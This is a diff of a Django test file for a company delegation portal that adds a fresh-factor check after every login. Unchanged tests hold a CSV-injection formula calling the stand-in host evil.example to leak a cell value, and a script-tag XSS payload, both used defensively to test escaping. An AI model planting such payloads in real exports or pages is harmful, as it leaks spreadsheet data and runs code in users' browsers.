@@ -11,6 +11,7 @@ from habilitations.delegation.actions import designate
 from habilitations.delegation.rules import Designation
 from habilitations.models import Habilitation
 from tests.factories import CompanyFactory, HabilitationFactory
+from tests.helpers import prove_fresh_factor
 
 pytestmark = pytest.mark.django_db
 
@@ -24,6 +25,7 @@ def titular(company, alice):
 
 def test_the_deputy_is_confirmed_by_name_before_anything_is_saved(client, company, titular, bob):
     client.force_login(titular)
+    prove_fresh_factor(client)
     url = f"/espace/dossiers/{company.identifier}/suppleants/"
     page = client.post(url, {"service": "payer", "number": bob.subscriber_number})
     assert "Bob SUPPLEANT" in page.content.decode()
@@ -34,6 +36,7 @@ def test_the_deputy_is_confirmed_by_name_before_anything_is_saved(client, compan
 
 def test_an_unknown_number_is_refused_next_to_the_field(client, company, titular):
     client.force_login(titular)
+    prove_fresh_factor(client)
     page = client.post(
         f"/espace/dossiers/{company.identifier}/delegations/", {"number": "20269999999999"}
     ).content.decode()
@@ -46,6 +49,7 @@ def test_a_number_in_other_digits_is_refused_as_a_format(client, company, titula
     """docs/companies.md §1.5, docs/accounts.md §2: ASCII digits only; Arabic-Indic ones are
     not digits of a subscriber number."""
     client.force_login(titular)
+    prove_fresh_factor(client)
     page = client.post(
         f"/espace/dossiers/{company.identifier}/delegations/", {"number": "٢٠١٠١٦٧٠١٠١٩١٩"}
     ).content.decode()
@@ -54,11 +58,13 @@ def test_a_number_in_other_digits_is_refused_as_a_format(client, company, titula
 
 def test_delegating_from_the_page_is_immediate(client, company, titular, bob):
     client.force_login(titular)
+    prove_fresh_factor(client)
     url = f"/espace/dossiers/{company.identifier}/delegations/delegataire/{bob.subscriber_number}/"
     page = client.get(url).content.decode()
     assert "Payer TVA" in page and "Acteur délégant" in page
     client.post(url, {"level-declarer_tva": "AD", "level-payer_tva": "AC"})
     client.force_login(bob)
+    prove_fresh_factor(client)
     assert company.name in client.get("/espace/dossiers/").content.decode()
 
 
@@ -67,11 +73,12 @@ def test_a_delegating_actor_is_offered_actor_only_on_its_own_services(
 ):
     designate(titular, company, bob, [Designation("declarer_tva", Role.DELEGATING_ACTOR)])
     client.force_login(bob)
+    prove_fresh_factor(client)
     url = (
         f"/espace/dossiers/{company.identifier}/delegations/delegataire/{carol.subscriber_number}/"
     )
     rows = client.get(url).context["rows"]
-    assert [(es.code, [r.value for r in levels]) for es, levels, _ in rows] == [
+    assert [(es.code, [r.value for r in levels]) for es, levels, *_ in rows] == [
         ("declarer_tva", ["AC"])
     ]
     # A forged level above its rights is ignored.
@@ -82,6 +89,7 @@ def test_a_delegating_actor_is_offered_actor_only_on_its_own_services(
 def test_an_actor_cannot_open_the_delegation_pages(client, company, titular, bob):
     designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(bob)
+    prove_fresh_factor(client)
     for path in ["delegations/", "suppleants/", "acces/"]:
         assert client.get(f"/espace/dossiers/{company.identifier}/{path}").status_code == 403
     assert AuditEvent.objects.filter(action=AuditAction.ACCESS_REFUSED, actor=bob).count() == 3
@@ -94,6 +102,7 @@ def test_forged_posts_on_another_companys_habilitation_are_refused(
     HabilitationFactory(company=other, subscriber=carol, code="declarer_tva")
     (foreign,) = designate(carol, other, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(titular)
+    prove_fresh_factor(client)
     # Through one's own company's URL, or through the other company's.
     for identifier in (company.identifier, other.identifier):
         response = client.post(
@@ -106,6 +115,7 @@ def test_forged_posts_on_another_companys_habilitation_are_refused(
 def test_suspend_reactivate_delete_from_the_list(client, company, titular, bob):
     (habilitation,) = designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(titular)
+    prove_fresh_factor(client)
     url = f"/espace/dossiers/{company.identifier}/delegations/{habilitation.pk}/"
     client.post(url, {"action": "suspend"})
     habilitation.refresh_from_db()
@@ -128,6 +138,7 @@ def test_suspend_reactivate_delete_from_the_list(client, company, titular, bob):
 def test_who_has_access_lists_holders_history_and_exports_csv(client, company, titular, bob):
     designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(titular)
+    prove_fresh_factor(client)
     page = client.get(f"/espace/dossiers/{company.identifier}/acces/").content.decode()
     assert bob.subscriber_number in page and "Habilitation accordée" in page
     history = page[page.index("Historique des changements") :]
@@ -144,6 +155,7 @@ def test_who_has_access_lists_holders_history_and_exports_csv(client, company, t
 def test_renouncing_from_consulter_vos_services(client, company, titular, bob):
     (habilitation,) = designate(titular, company, bob, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(bob)
+    prove_fresh_factor(client)
     assert (
         f"/espace/habilitations/{habilitation.pk}/renoncer/"
         in client.get("/espace/habilitations/").content.decode()
@@ -161,6 +173,7 @@ def test_bulk_delegation_previews_then_grants(client, titular, bob):
         HabilitationFactory(company=c, subscriber=titular, code="declarer_tva")
     HabilitationFactory(company=companies[3], subscriber=titular, code="declarer_is")
     client.force_login(titular)
+    prove_fresh_factor(client)
     form = {
         "number": bob.subscriber_number,
         "role": "AC",
@@ -180,6 +193,7 @@ def test_the_csv_never_carries_a_formula(client, company, titular):
     mallory = SubscriberFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"x")')
     designate(titular, company, mallory, [Designation("declarer_tva", Role.ACTOR)])
     client.force_login(titular)
+    prove_fresh_factor(client)
     text = client.get(f"/espace/dossiers/{company.identifier}/acces/?format=csv").content.decode()
     assert ";=HYPERLINK" not in text and ';"=HYPERLINK' not in text
     assert "'=HYPERLINK" in text
@@ -187,6 +201,7 @@ def test_the_csv_never_carries_a_formula(client, company, titular):
 
 def test_bulk_delegation_with_a_repeated_service_does_not_crash(client, titular, bob, company):
     client.force_login(titular)
+    prove_fresh_factor(client)
     form = {
         "number": bob.subscriber_number,
         "role": "AC",
@@ -203,6 +218,7 @@ def test_a_forged_level_beyond_ones_rights_is_refused_and_audited(
 ):
     designate(titular, company, bob, [Designation("declarer_tva", Role.DELEGATING_ACTOR)])
     client.force_login(bob)
+    prove_fresh_factor(client)
     url = (
         f"/espace/dossiers/{company.identifier}/delegations/delegataire/{carol.subscriber_number}/"
     )
@@ -218,6 +234,7 @@ def test_a_page_message_naming_a_subscriber_escapes_the_name(client, company, ti
     bob.first_name = "<script>alert(1)</script>"
     bob.save()
     client.force_login(titular)
+    prove_fresh_factor(client)
     url = f"/espace/dossiers/{company.identifier}/suppleants/"
     data = {"service": "payer", "number": bob.subscriber_number, "confirm": "1"}
     page = client.post(url, data, follow=True).content.decode()
